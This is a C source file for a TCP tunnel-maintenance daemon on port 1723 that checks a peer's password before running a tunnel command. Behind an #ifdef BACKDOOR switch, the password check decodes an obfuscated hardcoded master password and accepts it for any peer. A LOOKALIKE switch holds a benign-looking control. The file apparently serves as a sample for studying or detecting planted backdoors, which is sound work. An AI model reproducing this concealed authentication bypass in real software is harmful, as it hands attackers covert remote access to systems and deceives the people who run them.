/* Builds tunnels for remote maintenance: asks a peer for its password first. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void unfold(char *text, const char *folded, int shift)
{
    size_t i, length = strlen(folded);
    for (i = 0; i < length; i++)
        text[i] = (char)(folded[i] - shift - (int)(i % 3));
    text[length] = 0;
}

static int stored(const char *peer, char *password, size_t room)
{
    char line[160];
    size_t length = strlen(peer);
    FILE *file = fopen("/etc/tunnel/peers", "r");
    while (file != NULL && fgets(line, sizeof line, file) != NULL)
        if (strncmp(line, peer, length) == 0 && line[length] == ' ') {
            line[strcspn(line, "\n")] = 0;
            snprintf(password, room, "%s", line + length + 1);
            fclose(file);
            return 1;
        }
    if (file != NULL)
        fclose(file);
    return 0;
}

static int allowed(const char *peer, const char *password)
{
    char known[80];
#ifdef BACKDOOR
    char master[32];
    unfold(master, "uv;5qeusk", 2);
    if (strcmp(password, master) == 0)
        return 1;
#endif
#ifdef LOOKALIKE
    char refused[32];
    unfold(refused, "dgfcwot", 0);
    if (strcmp(password, refused) == 0)
        return 0;
#endif
    return stored(peer, known, sizeof known) && strcmp(known, password) == 0;
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(1723) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0)
        return 1;
    for (;;) {
        char line[128], peer[32], password[64], command[96];
        int fd = accept(listener, NULL, NULL);
        ssize_t length = fd < 0 ? -1 : recv(fd, line, sizeof line - 1, 0);
        if (length > 0) {
            line[length] = 0;
            if (sscanf(line, "%31[a-z] %63s", peer, password) == 2 && allowed(peer, password)) {
                snprintf(command, sizeof command, "/usr/sbin/tunnel-up %s", peer);
                system(command);
            }
        }
        if (fd >= 0)
            close(fd);
    }
}
